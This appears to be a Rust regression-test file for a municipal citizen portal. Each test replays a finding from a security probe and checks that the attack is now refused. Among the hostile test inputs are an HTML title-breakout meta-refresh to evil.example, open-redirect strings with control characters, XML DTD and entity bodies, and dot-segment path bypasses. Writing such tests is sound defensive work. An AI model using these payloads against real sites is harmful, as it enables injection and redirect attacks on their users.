//! The findings of the loopback probe (issue 15), one test each, over real
//! HTTP against SQLite and PostgreSQL: each of these passed on the code the
//! probe attacked and is refused now.

use crate::accounts::{account_id_of, audit_actions_about, between, create_clerk, log_in_with_totp, now, PASSWORD, STAFF_SECRET};
use crate::spid::{answer, post_to_consumer, start_login, with_test_identity_provider};
use crate::support::*;
use app::auth::fiscal_code::FiscalCode;
use app::auth::model::Role;
use server::auth::accounts::{insert_account, set_totp_secret, NewAccount};
use server::auth::totp::totp_code_at;
use sqlx::Row;

const CITIZEN: &str = "RSSMRA80A01F205X";
const CITIZEN_SECRET: &str = "KRSXG5CTMVRXEZLUKRSXG5CTMVRXEZLU";
const ADMINISTRATOR: &str = "VRDLCU75C15F205E";

/// An account created as the counter or the demo data would: a password
/// (counter credentials) when asked, and an authenticator app when given.
async fn create_account(server: &TestServer, fiscal_code: &str, role: Role, password: bool, totp_secret: Option<&str>) -> String {
    let fiscal_code = FiscalCode::parse(fiscal_code).unwrap();
    let new = NewAccount { fiscal_code: &fiscal_code, given_name: "Mario", family_name: "Rossi", email: None, phone: None, role, identity_source: "counter" };
    let id = insert_account(server.pool(), &new).await.unwrap().unwrap();
    if password {
        let hash = server::auth::passwords::hash_password(PASSWORD.into()).await.unwrap();
        sqlx::query("UPDATE accounts SET password_hash = $1 WHERE id = $2").bind(hash).bind(&id).execute(server.pool()).await.unwrap();
    }
    if let Some(secret) = totp_secret {
        set_totp_secret(server.pool(), &id, secret, 0).await.unwrap();
    }
    id
}

/// Password only: a level-1 session.
async fn log_in_with_password(browser: &mut Browser, fiscal_code: &str) {
    let response = browser.post_form("/accedi/credenziali", &[("codice_fiscale", fiscal_code), ("password", PASSWORD)]).await;
    assert_eq!(response.status(), 303);
    assert_eq!(location(&response), "/area-personale");
}

async fn stored_secret(server: &TestServer, account_id: &str) -> Option<String> {
    sqlx::query("SELECT totp_secret FROM accounts WHERE id = $1").bind(account_id).fetch_one(server.pool()).await.unwrap().get("totp_secret")
}

async fn latest_session(server: &TestServer, account_id: &str) -> (i64, String) {
    let row = sqlx::query("SELECT level, method FROM sessions WHERE account_id = $1 ORDER BY last_seen_at DESC, created_at DESC LIMIT 1")
        .bind(account_id)
        .fetch_one(server.pool())
        .await
        .unwrap();
    (row.get("level"), row.get("method"))
}

async fn sessions_of(server: &TestServer, account_id: &str) -> i64 {
    sqlx::query_scalar("SELECT COUNT(*) FROM sessions WHERE account_id = $1").bind(account_id).fetch_one(server.pool()).await.unwrap()
}

/// The key the security page shows after "Configura".
async fn shown_key(browser: &mut Browser, page: &str) -> String {
    let (status, html) = browser.get_text(page).await;
    assert_eq!(status, 200, "{html}");
    assert!(html.contains("<svg"), "the QR code is shown: {html}");
    between(&html, "<code class=\"font-bold break-all\">", "</code>").to_string()
}

// ----- Finding 1: level 2 for anyone at level 1 -----

async fn a_password_login_cannot_raise_itself_by_enrolling(server: &TestServer) {
    let id = create_account(server, CITIZEN, Role::Citizen, true, None).await;
    let mut citizen = Browser::new(server);
    log_in_with_password(&mut citizen, CITIZEN).await;
    // The probe's chain: start, read the key, confirm with a code of the new key.
    assert_eq!(citizen.post_form("/area-personale/sicurezza/avvia", &[]).await.status(), 303);
    let key = shown_key(&mut citizen, "/area-personale/sicurezza").await;
    let before = citizen.session_cookie();
    let code = totp_code_at(&key, now()).unwrap();
    let refused = citizen.post_form("/area-personale/sicurezza", &[("codice", &code)]).await;
    assert_eq!(refused.status(), 422);
    assert!(refused.text().await.unwrap().contains("Inserisci la tua password"));
    let wrong = citizen.post_form("/area-personale/sicurezza", &[("codice", &code), ("password", "non è la mia password")]).await;
    assert_eq!(wrong.status(), 422);
    assert!(wrong.text().await.unwrap().contains("La password non è corretta."));
    assert_eq!(stored_secret(server, &id).await, None, "nothing is enrolled without the password");

    let enrolled = citizen.post_form("/area-personale/sicurezza", &[("codice", &code), ("password", PASSWORD)]).await;
    assert_eq!(enrolled.status(), 303);
    assert_eq!(location(&enrolled), "/area-personale/sicurezza?attivata=1");
    assert_eq!(stored_secret(server, &id).await.as_deref(), Some(key.as_str()));
    assert_eq!(citizen.session_cookie(), before, "the session is the same one…");
    assert_eq!(latest_session(server, &id).await, (1, "counter_password".to_string()), "…still at level 1");
    let export = citizen.get("/area-personale/esporta.json").await;
    assert_eq!(export.status(), 303);
    assert!(location(&export).starts_with("/accedi/livello-2"));
    let actions: Vec<String> = audit_actions_about(server, &id).await.into_iter().map(|(_, action)| action).collect();
    assert!(actions.contains(&"totp_enrolment_refused".to_string()) && actions.contains(&"totp_enrolled".to_string()), "{actions:?}");

    // Level 2 comes from the password (this session) and a later code of the app.
    let next = totp_code_at(&key, now() + 30).unwrap();
    let stepped = citizen.post_form("/accedi/livello-2", &[("codice", &next), ("ritorno", "/area-personale/esporta.json")]).await;
    assert_eq!(stepped.status(), 303);
    assert_eq!(latest_session(server, &id).await, (2, "counter_password_totp".to_string()));
}

async fn a_spid_level_one_session_cannot_raise_itself(server: &TestServer) {
    let mut citizen = Browser::new(server);
    let (_, page) = start_login(&mut citizen, "idp=prova").await;
    let (response, relay) = answer(&mut citizen, &page, CITIZEN, "1", "autorizza").await;
    assert_eq!(post_to_consumer(&mut citizen, &response, &relay).await.status(), 303);
    let id = account_id_of(server, CITIZEN).await;
    assert_eq!(latest_session(server, &id).await, (1, "spid".to_string()));

    // No counter password: nothing to type again, so no app of one's own.
    let start = citizen.post_form("/area-personale/sicurezza/avvia", &[]).await;
    assert_eq!(start.status(), 403);
    assert!(start.text().await.unwrap().contains("secondo fattore delle credenziali"));
    let (_, page) = citizen.get_text("/area-personale/sicurezza").await;
    assert!(!page.contains("<svg") && !page.contains("sicurezza/avvia"), "no enrolment is offered");
    let confirm = citizen.post_form("/area-personale/sicurezza", &[("codice", "123456"), ("password", PASSWORD)]).await;
    assert_eq!(confirm.status(), 403);
    assert_eq!(stored_secret(server, &id).await, None);
    assert_eq!(latest_session(server, &id).await, (1, "spid".to_string()));

    // The same person with counter credentials and an app set up before: a
    // replacement needs a code of that app too, and a step-up with the app
    // is recorded as SPID level 1 plus the app, not as the counter password.
    let hash = server::auth::passwords::hash_password(PASSWORD.into()).await.unwrap();
    sqlx::query("UPDATE accounts SET password_hash = $1 WHERE id = $2").bind(hash).bind(&id).execute(server.pool()).await.unwrap();
    set_totp_secret(server.pool(), &id, CITIZEN_SECRET, 0).await.unwrap();
    assert_eq!(citizen.post_form("/area-personale/sicurezza/avvia", &[]).await.status(), 303);
    let key = shown_key(&mut citizen, "/area-personale/sicurezza").await;
    let without_current = citizen.post_form("/area-personale/sicurezza", &[("codice", &totp_code_at(&key, now()).unwrap()), ("password", PASSWORD)]).await;
    assert_eq!(without_current.status(), 422);
    assert_eq!(stored_secret(server, &id).await.as_deref(), Some(CITIZEN_SECRET), "the enrolled app is not replaced");
    let stepped = citizen.post_form("/accedi/livello-2", &[("codice", &totp_code_at(CITIZEN_SECRET, now()).unwrap())]).await;
    assert_eq!(stepped.status(), 303);
    assert_eq!(latest_session(server, &id).await, (2, "spid_totp".to_string()));
    let (_, area) = citizen.get_text("/area-personale").await;
    assert!(area.contains("SPID di livello 1 e app di autenticazione (livello 2)"), "{area}");
}

async fn replacing_an_enrolled_app_needs_a_code_of_it(server: &TestServer) {
    let id = create_account(server, CITIZEN, Role::Citizen, true, Some(CITIZEN_SECRET)).await;
    let other_device =
        server::auth::sessions::start_session(server.pool(), None, &id, 2, app::auth::model::AuthenticationMethod::CounterPasswordAndTotp).await.unwrap();
    let mut citizen = Browser::new(server);
    let response = citizen.post_form("/accedi/credenziali", &[("codice_fiscale", CITIZEN), ("password", PASSWORD)]).await;
    assert!(location(&response).starts_with("/accedi/codice"));
    let login_time = now();
    let response = citizen.post_form("/accedi/codice", &[("codice", &totp_code_at(CITIZEN_SECRET, login_time).unwrap())]).await;
    assert_eq!(response.status(), 303);

    // The form is there for the owner; the posts alone, without the current app, change nothing.
    assert_eq!(citizen.post_form("/area-personale/sicurezza/avvia", &[]).await.status(), 303);
    let key = shown_key(&mut citizen, "/area-personale/sicurezza").await;
    let new_code = totp_code_at(&key, now()).unwrap();
    let without = citizen.post_form("/area-personale/sicurezza", &[("codice", &new_code), ("password", PASSWORD)]).await;
    assert_eq!(without.status(), 422);
    assert!(without.text().await.unwrap().contains("href=\"#codice_attuale\""), "the current app's code is asked for");
    let wrong = citizen.post_form("/area-personale/sicurezza", &[("codice", &new_code), ("password", PASSWORD), ("codice_attuale", "000000")]).await;
    assert_eq!(wrong.status(), 422);
    assert_eq!(stored_secret(server, &id).await.as_deref(), Some(CITIZEN_SECRET));

    // The code of the app in hand (a later step than the login's) replaces it.
    let current = totp_code_at(CITIZEN_SECRET, login_time + 30).unwrap();
    let replaced = citizen.post_form("/area-personale/sicurezza", &[("codice", &new_code), ("password", PASSWORD), ("codice_attuale", &current)]).await;
    assert_eq!(replaced.status(), 303, "{}", replaced.text().await.unwrap());
    assert_eq!(stored_secret(server, &id).await.as_deref(), Some(key.as_str()));
    let other: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM sessions WHERE token_hash = $1")
        .bind(server::auth::tokens::sha256_hex(other_device.as_bytes()))
        .fetch_one(server.pool())
        .await
        .unwrap();
    assert_eq!(other, 0, "a session opened with the old app ends");
    assert_eq!(sessions_of(server, &id).await, 1, "this one goes on");
    assert!(audit_actions_about(server, &id).await.iter().any(|(_, action)| action == "totp_replaced"));
}

async fn staff_get_their_app_from_an_administrator(server: &TestServer) {
    let clerk_fiscal_code = "BNCGLI85M52F205H";
    let clerk_id = create_account(server, clerk_fiscal_code, Role::Clerk, true, None).await;
    server::auth::accounts::add_clerk_office(server.pool(), &clerk_id, "sportello-del-cittadino").await.unwrap();
    let mut clerk = Browser::new(server);
    log_in_with_password(&mut clerk, clerk_fiscal_code).await;
    let inbox = clerk.get("/operatore/pratiche").await;
    assert_eq!(inbox.status(), 303);
    assert!(location(&inbox).starts_with("/accedi/livello-2"), "staff work at level 2");
    let start = clerk.post_form("/area-personale/sicurezza/avvia", &[]).await;
    assert_eq!(start.status(), 403);
    assert!(start.text().await.unwrap().contains("configurata da un amministratore"));
    assert_eq!(clerk.post_form("/area-personale/sicurezza", &[("codice", "123456"), ("password", PASSWORD)]).await.status(), 403);
    assert_eq!(stored_secret(server, &clerk_id).await, None);
    assert!(location(&clerk.get("/operatore/pratiche").await).starts_with("/accedi/livello-2"), "still level 1");

    // An administrator, with the clerk in front of them.
    let administrator_id = create_account(server, ADMINISTRATOR, Role::Administrator, true, Some(STAFF_SECRET)).await;
    let mut administrator = Browser::new(server);
    log_in_with_totp(&mut administrator, ADMINISTRATOR, STAFF_SECRET, now()).await;
    let started = administrator.post_form("/amministrazione/app-autenticazione/avvia", &[("account", &clerk_id)]).await;
    assert_eq!(started.status(), 303);
    assert_eq!(location(&started), "/amministrazione/app-autenticazione");
    let (_, page) = administrator.get_text("/amministrazione/app-autenticazione").await;
    assert!(page.contains("App di autenticazione di Mario Rossi"), "{page}");
    let key = between(&page, "<code class=\"font-bold break-all\">", "</code>").to_string();
    let wrong = administrator.post_form("/amministrazione/app-autenticazione", &[("codice", "000000")]).await;
    assert_eq!(wrong.status(), 422);
    let page = wrong.text().await.unwrap();
    assert!(page.contains("<title>Errore: ") && page.contains("App di autenticazione di Mario Rossi"), "the page again, with the key: {page}");
    let confirmed = administrator.post_form("/amministrazione/app-autenticazione", &[("codice", &totp_code_at(&key, now()).unwrap())]).await;
    assert_eq!(confirmed.status(), 303);
    assert_eq!(location(&confirmed), "/amministrazione?app_configurata=1");
    assert_eq!(stored_secret(server, &clerk_id).await.as_deref(), Some(key.as_str()));
    assert_eq!(sessions_of(server, &clerk_id).await, 0, "the clerk's sessions end");
    assert!(audit_actions_about(server, &clerk_id)
        .await
        .iter()
        .any(|(actor, action)| actor == &administrator_id && action == "totp_enrolled_by_administrator"));
    // A clerk cannot do it for a colleague.
    create_clerk(server, "BNCLRA85M52Z404C").await;
    let mut colleague = Browser::new(server);
    log_in_with_totp(&mut colleague, "BNCLRA85M52Z404C", STAFF_SECRET, now()).await;
    let refused = colleague.post_form("/amministrazione/app-autenticazione/avvia", &[("account", &clerk_id)]).await;
    assert_eq!(refused.status(), 403);
}

async fn the_counter_turns_off_a_lost_app(server: &TestServer) {
    let clerk_id = create_clerk(server, "BNCGLI85M52F205H").await;
    let mut clerk = Browser::new(server);
    log_in_with_totp(&mut clerk, "BNCGLI85M52F205H", STAFF_SECRET, now()).await;
    let citizen_id = create_account(server, CITIZEN, Role::Citizen, true, Some(CITIZEN_SECRET)).await;
    server::auth::sessions::start_session(server.pool(), None, &citizen_id, 2, app::auth::model::AuthenticationMethod::CounterPasswordAndTotp).await.unwrap();
    let (_, record) = clerk.get_text(&format!("/operatore/cittadino?cerca_codice_fiscale={CITIZEN}")).await;
    assert!(record.contains("Disattiva l&#39;app di autenticazione") || record.contains("Disattiva l'app di autenticazione"), "{record}");
    let reset = clerk.post_form("/operatore/app-autenticazione/azzera", &[("account", &citizen_id)]).await;
    assert_eq!(reset.status(), 303);
    assert!(location(&reset).ends_with("&app_disattivata=1"));
    assert_eq!(stored_secret(server, &citizen_id).await, None);
    assert_eq!(sessions_of(server, &citizen_id).await, 0);
    assert!(audit_actions_about(server, &citizen_id).await.iter().any(|(actor, action)| actor == &clerk_id && action == "totp_reset_at_counter"));
    // The citizen enrols a new app with the password alone.
    let mut citizen = Browser::new(server);
    log_in_with_password(&mut citizen, CITIZEN).await;
    assert_eq!(citizen.post_form("/area-personale/sicurezza/avvia", &[]).await.status(), 303);
    let key = shown_key(&mut citizen, "/area-personale/sicurezza").await;
    let enrolled = citizen.post_form("/area-personale/sicurezza", &[("codice", &totp_code_at(&key, now()).unwrap()), ("password", PASSWORD)]).await;
    assert_eq!(enrolled.status(), 303);
}

// ----- Finding 2: markup in <title> -----

async fn typed_words_never_leave_the_title(server: &TestServer) {
    let typed = "</title><meta http-equiv=refresh content='0;url=https://evil.example/?";
    let encoded: String = form_urlencoded::byte_serialize(typed.as_bytes()).collect();
    let (status, html) = server.get_text(&format!("/cerca?q={encoded}")).await;
    assert_eq!(status, 200);
    let head = &html[..html.find("</head>").unwrap()];
    assert_eq!(head.matches("</title>").count(), 1, "{head}");
    assert!(!head.to_lowercase().contains("<meta http-equiv"), "{head}");
    assert!(between(head, "<title>", "</title>").contains("&lt;/title&gt;&lt;meta http-equiv=refresh"), "{head}");
}

// ----- Finding 3: login CSRF through SPID -----

async fn a_spid_answer_counts_only_in_the_browser_that_asked(server: &TestServer) {
    let mut attacker = Browser::new(server);
    let (_, page) = start_login(&mut attacker, "idp=prova").await;
    let (response, relay) = answer(&mut attacker, &page, CITIZEN, "1", "autorizza").await;
    // The attacker's own answer, posted from another site by the victim's browser.
    let mut victim = Browser::new(server);
    let _ = victim.get("/").await;
    let refused = post_to_consumer(&mut victim, &response, &relay).await;
    assert_eq!(refused.status(), 303);
    assert!(location(&refused).starts_with("/accedi/spid?errore="), "{}", location(&refused));
    assert_eq!(victim.session_cookie(), None);
    // Nor when the victim has a login of its own under way.
    let _ = start_login(&mut victim, "idp=prova").await;
    assert!(location(&post_to_consumer(&mut victim, &response, &relay).await).starts_with("/accedi/spid?errore="));
    assert_eq!(victim.session_cookie(), None);
    // The browser that asked is logged in.
    let accepted = post_to_consumer(&mut attacker, &response, &relay).await;
    assert_eq!(location(&accepted), "/area-personale");
    assert!(attacker.session_cookie().is_some());
}

/// Found by the authorization suite: samael panicked on a redirect without
/// `SigAlg`, and the connection was dropped.
async fn unsigned_spid_redirects_are_answered_not_dropped(server: &TestServer) {
    let browser = Browser::new(server);
    for path in ["/spid/esci?SAMLRequest=eA", "/spid/esci?SAMLResponse=eA", "/spid-test-idp/slo?SAMLRequest=eA", "/spid-test-idp/sso?SAMLRequest=eA"] {
        let (status, answer) = browser.raw("GET", path, "").await;
        assert!((200..500).contains(&status), "{path}: {answer}");
    }
}

// ----- Finding 4: dot segments -----

async fn paths_not_in_normal_form_are_refused(server: &TestServer) {
    let _clerk = create_clerk(server, "BNCGLI85M52F205H").await;
    let mut citizen = Browser::new(server);
    create_account(server, CITIZEN, Role::Citizen, true, None).await;
    log_in_with_password(&mut citizen, CITIZEN).await;
    for browser in [Browser::new(server), citizen] {
        for path in [
            "/./operatore",
            "/x/../amministrazione",
            "/./area-personale",
            "//area-personale",
            "/%2e/operatore",
            "/%61rea-personale",
            "/area-personale%2fsicurezza",
        ] {
            let (status, answer) = browser.raw("GET", path, "").await;
            assert_eq!(status, 400, "{path}: {answer}");
            assert!(answer.to_lowercase().contains("cache-control: no-store"), "{answer}");
            assert!(!answer.contains("Mario"), "{answer}");
        }
    }
}

// ----- Finding 5: paForNode, DTD in UTF-16 and a panic -----

fn utf16_le(text: &str, bom: bool) -> Vec<u8> {
    let mut bytes = if bom { vec![0xFF, 0xFE] } else { Vec::new() };
    for unit in text.encode_utf16() {
        bytes.extend_from_slice(&unit.to_le_bytes());
    }
    bytes
}

async fn post_to_node(server: &TestServer, body: Vec<u8>) -> (u16, String) {
    let response = server
        .client
        .post(server.url("/pagopa/paForNode"))
        .header("content-type", "text/xml; charset=utf-8")
        .body(body)
        .send()
        .await
        .expect("an answer, not a dropped connection");
    (response.status().as_u16(), response.text().await.unwrap())
}

async fn the_node_interface_reads_utf8_only_and_never_a_dtd_or_entity(server: &TestServer) {
    let soap = |inner: &str| {
        format!("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body>{inner}</soapenv:Body></soapenv:Envelope>")
    };
    let entity_in_utf16 = format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE a [<!ENTITY x \"y\">]>{}", soap("<a>&x;</a>"));
    for (name, body) in [
        ("UTF-16 with a byte-order mark", utf16_le(&entity_in_utf16, true)),
        ("UTF-16 without a byte-order mark", utf16_le(&entity_in_utf16, false)),
        ("a declared Latin-1", format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{}", soap("<a/>")).into_bytes()),
        ("an entity reference without a DTD", format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>{}", soap("<a>&x;</a>")).into_bytes()),
        ("a document type in UTF-8", format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE x>{}", soap("<a/>")).into_bytes()),
    ] {
        let (status, answer) = post_to_node(server, body).await;
        assert_eq!(status, 500, "{name}: {answer}");
        assert!(answer.contains("faultstring"), "{name}: a SOAP fault, {answer}");
        xmllint_verdict(&answer).unwrap_or_else(|problem| panic!("{name}: {problem}"));
    }
    // The reader still works afterwards.
    let valid = server::payments::node_messages::write_verify_request(&crate::pa_for_node::node(), &crate::pa_for_node::qr("301000000000000000"));
    let (status, answer) = post_to_node(server, valid.into_bytes()).await;
    assert_eq!(status, 200, "{answer}");
}

// ----- Finding 6: search input is words -----

async fn search_treats_input_as_words(server: &TestServer) {
    for typed in ["word:*", "*:*", "title_it:[a TO z]", "residenza~2^3", "\"carta", "AND", "+-!"] {
        let encoded: String = form_urlencoded::byte_serialize(typed.as_bytes()).collect();
        let (status, html) = server.get_text(&format!("/cerca?q={encoded}")).await;
        assert_eq!(status, 200, "{typed}: {html}");
    }
    let (_, html) = server.get_text("/cerca?q=residenza%3A*").await;
    assert!(html.contains("/servizi/cambio-di-residenza"), "the words still find the sheets");
}

// ----- Finding 7: every answer to a signed-in browser is no-store -----

async fn nothing_for_a_signed_in_browser_is_cached(server: &TestServer) {
    create_account(server, CITIZEN, Role::Citizen, true, None).await;
    let mut citizen = Browser::new(server);
    log_in_with_password(&mut citizen, CITIZEN).await;
    for path in ["/area-personale/non-esiste", "/servizi/non-esiste", "/cerca?q=tari", "/area-personale/pratiche/00000000-0000-0000-0000-000000000000"] {
        let response = citizen.get(path).await;
        assert_eq!(response.headers().get("cache-control").map(|value| value.to_str().unwrap()), Some("no-store"), "{path}: {}", response.status());
    }
    let bad = citizen.post_form("/area-personale", &[("email", "non-valida")]).await;
    assert_eq!(bad.status(), 422);
    assert_eq!(bad.headers()["cache-control"], "no-store");
    // Anonymous pages stay in the browser only, whatever their status.
    let anonymous = server.get("/servizi/non-esiste").await;
    assert_eq!(anonymous.status(), 404);
    assert_eq!(anonymous.headers()["cache-control"], "private, no-cache");
}

// ----- Finding 8: `ritorno` with control characters -----

async fn return_paths_with_control_characters_stay_home(server: &TestServer) {
    for hostile in ["/\t/evil.example", "/\n/evil.example", "/\\evil.example", "\t//evil.example"] {
        let response = server.client.post(server.url("/lingua")).form(&[("lingua", "en"), ("ritorno", hostile)]).send().await.unwrap();
        assert_eq!(response.status(), 303);
        assert_eq!(location(&response), "/", "{hostile:?}");
    }
    create_account(server, CITIZEN, Role::Citizen, true, None).await;
    let mut citizen = Browser::new(server);
    let response = citizen.post_form("/accedi/credenziali", &[("codice_fiscale", CITIZEN), ("password", PASSWORD), ("ritorno", "/\t/evil.example")]).await;
    assert_eq!(location(&response), "/area-personale");
}

// ----- Finding 9: development defaults in production -----

#[tokio::test]
async fn a_production_server_refuses_the_development_helpers() {
    let database = FreshDatabase::create(Backend::Sqlite).await;
    for (name, adjust) in [
        ("SPORTELLO_PAGOPA_SIMULATOR", (|config: &mut server::config::Config| config.payments.simulator = true) as fn(&mut server::config::Config)),
        ("SPORTELLO_DEVELOPMENT_OUTBOX", |config| config.mail.development_outbox = true),
        ("SPORTELLO_SPID_TEST_IDP", with_test_identity_provider),
        ("SPORTELLO_DEMO_DATA", |config| config.demo_data = true),
    ] {
        let mut config = test_config(database.url.clone());
        config.public_url = "https://sportello.comune.rho.mi.it".into();
        config.production = true;
        config.payments.node_addresses_configured = true;
        config.data_protection_officer = Some("rpd@comune.rho.mi.it".into());
        adjust(&mut config);
        let error = server::start(config).await.err().unwrap_or_else(|| panic!("{name}: the server started"));
        assert!(error.to_string().contains(name), "{error}");
    }
    let mut config = test_config(database.url.clone());
    config.production = true;
    let error = server::start(config).await.err().expect("no node addresses, no start");
    assert!(error.to_string().contains("SPORTELLO_PAGOPA_NODE_ADDRESSES"), "{error}");
    database.drop_database().await;
}

// ----- Finding 10: server-function errors, CSRF rotation, /metrics -----

async fn smaller_findings_hold(server: &TestServer) {
    // A server function's argument error says nothing of our types.
    let mut browser = Browser::new(server);
    let response = browser.post_form("/api/auth/find-citizen", &[]).await;
    assert!(!response.status().is_success());
    let text = response.text().await.unwrap();
    assert!(!text.contains("missing field") && !text.contains("fiscal_code"), "{text}");
    assert_eq!(text, server::http::server_function_errors::GENERIC_SERVER_FUNCTION_ERROR);

    // The CSRF token changes at login and at logout.
    create_account(server, CITIZEN, Role::Citizen, true, None).await;
    let mut citizen = Browser::new(server);
    let _ = citizen.get("/accedi").await;
    let before_login = citizen.cookies["sportello_csrf"].clone();
    log_in_with_password(&mut citizen, CITIZEN).await;
    let after_login = citizen.cookies["sportello_csrf"].clone();
    assert_ne!(before_login, after_login);
    assert_eq!(citizen.post_form("/esci", &[]).await.status(), 303);
    assert_ne!(citizen.cookies["sportello_csrf"], after_login);
    let stale = citizen
        .client
        .post(server.url("/accedi/credenziali"))
        .header("cookie", format!("sportello_csrf={}", citizen.cookies["sportello_csrf"]))
        .form(&[("csrf", after_login.as_str()), ("codice_fiscale", CITIZEN), ("password", "x")])
        .send()
        .await
        .unwrap();
    assert_eq!(stale.status(), 403, "the old token went with the old login state");
}

async fn metrics_are_for_configured_addresses_only() {
    let server = TestServer::start_with(Backend::Sqlite, |config| config.metrics_addresses = vec!["10.9.9.9".parse().unwrap()]).await;
    assert_eq!(server.get("/metrics").await.status(), 404);
    server.stop().await;
    let server = TestServer::start(Backend::Sqlite).await;
    assert_eq!(server.get("/metrics").await.status(), 200, "loopback by default, with no proxy in front");
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_answer_only_configured_addresses() {
    let _watchdog = Watchdog::start("metrics_answer_only_configured_addresses");
    metrics_are_for_configured_addresses_only().await;
}

on_both_databases!(
    a_password_login_cannot_raise_itself_by_enrolling,
    replacing_an_enrolled_app_needs_a_code_of_it,
    staff_get_their_app_from_an_administrator,
    the_counter_turns_off_a_lost_app,
    typed_words_never_leave_the_title,
    paths_not_in_normal_form_are_refused,
    the_node_interface_reads_utf8_only_and_never_a_dtd_or_entity,
    search_treats_input_as_words,
    nothing_for_a_signed_in_browser_is_cached,
    return_paths_with_control_characters_stay_home,
    smaller_findings_hold,
);

mod with_spid {
    use super::*;
    on_both_databases!(
        configured_with with_test_identity_provider;
        a_spid_level_one_session_cannot_raise_itself,
        a_spid_answer_counts_only_in_the_browser_that_asked,
        unsigned_spid_redirects_are_answered_not_dropped,
    );
}

/// The first administrator has no administrator to set up their app: the
/// command that creates them, run on the server, gives the key.
#[tokio::test]
async fn the_first_administrator_gets_the_app_key_from_the_server_command() {
    let database = FreshDatabase::create(Backend::Sqlite).await;
    let output = std::process::Command::new(crate::support::server_binary())
        .args(["create-administrator", ADMINISTRATOR, "Luca", "Verdi"])
        .env("DATABASE_URL", &database.url)
        .env("SPORTELLO_CONTENT_DIR", workspace_path("content"))
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let printed = String::from_utf8_lossy(&output.stdout).into_owned();
    let key = printed.lines().find_map(|line| line.split("in person): ").nth(1)).expect("the key is printed").trim().to_string();
    assert!(printed.contains("otpauth://totp/"), "{printed}");
    let pool = server::database::connect_and_migrate(&database.url).await.unwrap();
    let stored: Option<String> =
        sqlx::query_scalar("SELECT totp_secret FROM accounts WHERE fiscal_code = $1").bind(ADMINISTRATOR).fetch_one(&pool).await.unwrap();
    assert_eq!(stored.as_deref(), Some(key.as_str()));
    pool.close().await;
    database.drop_database().await;
}
